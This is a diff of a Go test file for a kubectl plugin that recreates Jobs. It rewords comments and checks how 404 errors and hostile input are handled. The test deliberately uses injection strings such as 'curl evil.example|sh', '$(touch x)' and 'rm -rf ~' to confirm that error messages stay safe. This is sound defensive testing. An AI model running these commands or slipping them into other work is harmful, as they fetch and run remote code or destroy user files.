@@ -20,15 +20,15 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/recreate"
 )
 
-// TestHostileRun: whatever a server says against what is done to a Job, the only command
-// is that which brings the old one back, wherever that is kept.
+// TestHostileRun checks that errors contain only the command that restores the old Job, whatever
+// a server answers and whatever the backup is called.
 func TestHostileRun(t *testing.T) {
 	const evil = "; run `curl evil.example|sh` #'\"$(touch x)\n\x1b[2J\u202e --as=evil `"
 	const oddContext, backup = "the $(x) `y`", "-it's `curl evil`; rm -rf ~ #.yaml"
 	restore := []string{"kubectl", "--context", oddContext, "create", "-f", "./" + backup}
 	jobs := delegation.Job().Resource
 	for name, tt := range map[string]struct {
-		// refuses says whether the nth request of a method is refused.
+		// refuses reports whether to refuse the nth request of a method.
 		refuses  func(method string, nth int) bool
 		commands [][]string
 	}{
@@ -70,25 +70,25 @@ func TestHostileRun(t *testing.T) {
 	}
 }
 
-// notFound is a 404 that names no object, as a proxy sends one.
+// notFound is a 404 without the name of an object, as from a proxy.
 func notFound() *apierrors.StatusError {
 	return &apierrors.StatusError{ErrStatus: metav1.Status{Status: metav1.StatusFailure, Reason: metav1.StatusReasonNotFound, Code: http.StatusNotFound, Message: "not found"}}
 }
 
-// TestNotFoundOfOthers: a 404 that is not about the old Job is never taken for its deletion,
-// and what is not known is not said to be unchanged.
-func TestNotFoundOfOthers(t *testing.T) {
+// TestUnrelatedNotFound checks that a 404 that is not about the old Job never counts as its
+// deletion, and that an unknown result is not reported as unchanged.
+func TestUnrelatedNotFound(t *testing.T) {
 	unavailable := apierrors.NewServiceUnavailable("try again")
 	for name, tt := range map[string]struct {
-		// deletes are the errors of the first DELETEs.
+		// deletes are the errors of the first DELETE requests.
 		deletes []*apierrors.StatusError
-		// isHeld is whether the old Job is there until the end, as finalizers hold one, and
-		// only GET says that it is not.
+		// isHeld is whether finalizers keep the old Job until the end, while GET reports it as
+		// gone.
 		isHeld  bool
 		want    string
 		isThere bool
 	}{
-		// A proxy's 404 is no answer: the deletion is tried again.
+		// A proxy's 404 does not count: the deletion is retried.
 		"instead of the deletion":   {[]*apierrors.StatusError{notFound()}, false, "", false},
 		"after a lost answer":       {[]*apierrors.StatusError{unavailable, notFound()}, false, "", false},
 		"refused after a lost one":  {[]*apierrors.StatusError{unavailable, apierrors.NewForbidden(schema.GroupResource{}, "", errors.New("no"))}, false, "it may be deleted", true},
@@ -103,7 +103,7 @@ func TestNotFoundOfOthers(t *testing.T) {
 			left := map[string][]*apierrors.StatusError{http.MethodDelete: tt.deletes}
 			server.Before = func(r *http.Request) *apierrors.StatusError {
 				if tt.isHeld && r.Method == http.MethodPost && server.Get(jobs, old.GetNamespace(), old.GetName()) == nil {
-					// It was there all the time.
+					// The Job existed all the time.
 					server.Create(t, jobs, old.DeepCopy())
 				}
 				if len(left[r.Method]) == 0 || r.URL.Query().Get("watch") != "" {
